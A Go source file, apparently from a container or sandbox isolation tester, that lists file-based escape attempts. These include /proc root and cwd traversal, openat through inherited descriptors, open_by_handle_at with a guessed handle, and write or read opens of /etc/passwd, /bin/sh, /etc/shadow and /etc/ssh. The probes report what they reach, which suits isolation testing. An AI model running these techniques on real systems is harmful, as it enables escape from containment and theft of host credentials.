package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// reads says that a file has the secret in it.
func reads(path string) string {
	if b, err := os.ReadFile(path); err == nil && bytes.Contains(b, []byte(secretText)) {
		return "read " + path
	}
	return ""
}

// first is what the first attempt with a result reached.
func first[T any](list []T, try func(T) string) string {
	for _, v := range list {
		if got := try(v); got != "" {
			return got
		}
	}
	return ""
}

// processes are the directories of all processes that are seen.
func processes() []string {
	all, _ := filepath.Glob("/proc/[0-9]*")
	return all
}

// fileAttacks are after the node's files.
var fileAttacks = []attack{
	{group: "files", name: "the secret by its name", try: func(f *facts) string { return reads(f.Secret) }},
	{group: "files", name: "the secret through roots and working directories of processes", try: func(f *facts) string {
		return first(append(processes(), "/proc/self"), func(p string) string {
			return first([]string{"root", "cwd", "root/../../..", "cwd/../../../../../../../.."}, func(way string) string { return reads(p + "/" + way + f.Secret) })
		})
	}},
	{group: "files", name: "the secret beneath open files", try: func(f *facts) string {
		for fd := range 64 {
			for _, up := range []string{"", "..", "../../../../../../../../../.."} {
				if n, err := unix.Openat(fd, up+f.Secret, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
					return reads(fmt.Sprintf("/proc/self/fd/%d", n))
				}
			}
		}
		return ""
	}},
	{group: "files", name: "the secret above a root inside the root", try: func(f *facts) string {
		inner := filepath.Join(f.Dir, "inner")
		_ = os.MkdirAll(inner, 0o755)
		out, _ := exec.Command("/proc/self/exe", "above", inner, f.Secret).Output()
		return string(out)
	}},
	{group: "files", name: "any file by that name in all that is seen", try: func(f *facts) string {
		got, name, seen := "", filepath.Base(f.Secret), 0
		_ = filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
			if seen++; seen > 300_000 {
				return fs.SkipAll
			}
			if d != nil && d.IsDir() && (p == "/proc" || p == "/sys" || p == "/usr" || f.Control && p != "/" && !strings.HasPrefix(f.Secret, p)) {
				return fs.SkipDir
			}
			if err == nil && d.Name() == name {
				got = "found " + p
				return fs.SkipAll
			}
			return nil
		})
		return got
	}},
	{group: "files", name: "the root of a file system by its handle", try: byHandle},
	{group: "files", name: "writing to the node's programs", try: func(f *facts) string {
		if !f.HostRoot {
			return ""
		}
		return first([]string{"/etc/passwd", "/usr/bin/env", "/bin/sh", "/usr/lib/os-release", "/etc/ld.so.cache"}, opens(unix.O_WRONLY))
	}},
	{group: "files", name: "making files beside the node's programs", try: func(f *facts) string {
		if !f.HostRoot {
			return ""
		}
		return first([]string{"/usr/bin", "/lib", "/usr/lib", "/etc/alternatives"}, func(dir string) string {
			p := filepath.Join(dir, "serai-intruder")
			fd, err := unix.Open(p, unix.O_CREAT|unix.O_EXCL|unix.O_WRONLY, 0o600)
			if err != nil {
				return ""
			}
			_ = unix.Close(fd)
			return fmt.Sprintf("made %s, %v", p, unix.Unlink(p))
		})
	}},
	{group: "files", name: "the node's secrets", try: func(f *facts) string {
		if !f.HostRoot {
			return ""
		}
		return first([]string{"/etc/shadow", "/etc/gshadow", "/root", "/var/lib", "/home", "/etc/ssh", "/boot", "/srv"}, opens(unix.O_RDONLY))
	}},
	{group: "files", name: "a file that nobody can remove", sometimes: true, try: func(f *facts) string {
		fd, err := unix.Open(filepath.Join(f.Dir, "kept"), unix.O_CREAT|unix.O_RDWR, 0o600)
		if err != nil {
			return ""
		}
		defer unix.Close(fd)
		const immutable, appendOnly = 0x10, 0x20
		return first([]int{immutable, appendOnly}, func(flag int) string {
			if unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, flag) != nil {
				return ""
			}
			return fmt.Sprintf("set the flag %#x; taken away: %v", flag, unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, 0))
		})
	}},
	{group: "files", name: "what overlayfs believes", try: func(f *facts) string {
		p := filepath.Join(f.Dir, "kept")
		return first([]string{"trusted.overlay.redirect", "trusted.overlay.opaque", "trusted.x"}, func(name string) string {
			return did(unix.Setxattr(p, name, []byte("/"), 0))
		})
	}},
}

// opens tries to open a file or directory and closes it.
func opens(flags int) func(string) string {
	return func(path string) string {
		fd, err := unix.Open(path, flags|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			return ""
		}
		defer unix.Close(fd)
		if flags == unix.O_RDONLY {
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR {
				if entries, err := os.ReadDir(path); err != nil || len(entries) == 0 {
					return ""
				}
			}
		}
		return "opened " + path
	}
}

// byHandle opens the root directory of the file system that a mount shows a part of: it has the same number on every disk.
func byHandle(f *facts) string {
	at, err := unix.Open(f.Dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return ""
	}
	defer unix.Close(at)
	fd, err := unix.OpenByHandleAt(at, unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0}), unix.O_RDONLY)
	if err == unix.ESTALE {
		return "the kernel looked for it" // another kind of disk numbers otherwise
	}
	if err != nil {
		return ""
	}
	return fmt.Sprint("opened as ", fd)
}
